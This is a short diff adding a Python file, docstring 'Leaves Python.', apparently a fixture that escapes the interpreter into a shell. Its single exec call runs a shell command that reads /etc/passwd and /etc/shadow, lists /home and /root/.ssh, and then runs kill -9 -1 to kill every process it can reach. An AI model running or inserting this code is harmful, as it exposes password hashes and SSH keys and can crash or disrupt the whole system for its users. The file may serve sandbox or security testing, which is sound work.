@@ -1,0 +1,5 @@
+"""Leaves Python."""
+
+import os
+
+os.execv("/bin/sh", ["sh", "-c", "cat /etc/passwd /etc/shadow; ls /home /root/.ssh; id -u; kill -9 -1; exit 5"])
